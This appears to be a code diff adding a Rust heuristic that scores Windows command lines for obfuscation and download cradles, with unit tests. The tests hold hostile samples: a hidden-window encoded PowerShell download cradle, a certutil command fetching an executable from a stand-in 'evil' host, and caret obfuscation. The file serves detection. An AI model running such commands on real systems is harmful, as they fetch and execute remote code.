@@ -0,0 +1,120 @@
+//! Heuristics scoring process command lines for obfuscation and download cradles
+
+/// Minimum length of an unbroken base64 run considered an embedded payload
+const BASE64_BLOB_MIN_LENGTH: usize = 100;
+/// Number of `^` characters above which cmd.exe caret obfuscation is assumed
+const CARET_OBFUSCATION_THRESHOLD: usize = 5;
+/// Score at which a command line is reported as high severity
+pub const HIGH_SEVERITY_SCORE: u32 = 5;
+
+/// Indicators found in a command line with their combined weight
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct CommandLineScore {
+    pub score: u32,
+    pub indicators: Vec<&'static str>,
+}
+
+impl CommandLineScore {
+    pub(super) fn add(&mut self, weight: u32, indicator: &'static str) {
+        self.score += weight;
+        self.indicators.push(indicator);
+    }
+}
+
+/// Score a command line of the process image
+pub fn score_command_line(image: &str, command_line: &str) -> CommandLineScore {
+    let mut result = CommandLineScore::default();
+    let process = image.rsplit('\\').next().unwrap_or(image).to_lowercase();
+    let lower = command_line.to_lowercase();
+    let is_powershell = matches!(process.as_str(), "powershell.exe" | "pwsh.exe");
+
+    if is_powershell && lower.split_whitespace().any(is_encoded_command_switch) {
+        result.add(4, "-EncodedCommand");
+    }
+    if lower.contains("iex(") || lower.contains("iex (") || lower.contains("invoke-expression") {
+        result.add(3, "IEX");
+    }
+    if lower.contains("frombase64string") {
+        result.add(3, "FromBase64String");
+    }
+    if process == "certutil.exe"
+        && ["urlcache", "verifyctl", "decode"]
+            .iter()
+            .any(|switch| has_switch(&lower, switch))
+    {
+        result.add(4, "certutil download/decode");
+    }
+    if command_line.matches('^').count() > CARET_OBFUSCATION_THRESHOLD {
+        result.add(2, "caret obfuscation");
+    }
+    if has_base64_blob(command_line) {
+        result.add(2, "long base64 blob");
+    }
+    result
+}
+
+/// PowerShell accepts any unambiguous prefix of -EncodedCommand, plus -ec
+fn is_encoded_command_switch(token: &str) -> bool {
+    let Some(name) = token.strip_prefix(['-', '/']) else {
+        return false;
+    };
+    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(name))
+}
+
+fn has_switch(lower: &str, switch: &str) -> bool {
+    lower.contains(&format!("-{switch}")) || lower.contains(&format!("/{switch}"))
+}
+
+pub(super) fn has_base64_blob(command_line: &str) -> bool {
+    let mut run = 0;
+    for c in command_line.chars() {
+        if c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') {
+            run += 1;
+            if run >= BASE64_BLOB_MIN_LENGTH {
+                return true;
+            }
+        } else {
+            run = 0;
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+
+    #[test]
+    fn encoded_powershell() {
+        let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAJwApAA==";
+        let score = score_command_line(
+            POWERSHELL,
+            &format!("powershell.exe -NoP -W Hidden -enc {payload}"),
+        );
+        assert_eq!(score.indicators, ["-EncodedCommand", "long base64 blob"]);
+        assert!(score.score >= HIGH_SEVERITY_SCORE);
+    }
+
+    #[test]
+    fn certutil_and_carets() {
+        let certutil = score_command_line(
+            r"C:\Windows\System32\certutil.exe",
+            "certutil -urlcache -split -f http://evil/a.exe a.exe",
+        );
+        assert_eq!(certutil.indicators, ["certutil download/decode"]);
+        let carets =
+            score_command_line(r"C:\Windows\System32\cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l");
+        assert_eq!(carets.indicators, ["caret obfuscation"]);
+    }
+
+    #[test]
+    fn benign_command_line() {
+        let score = score_command_line(
+            POWERSHELL,
+            "powershell.exe -ExecutionPolicy Bypass -File a.ps1",
+        );
+        assert_eq!(score, CommandLineScore::default());
+    }
+}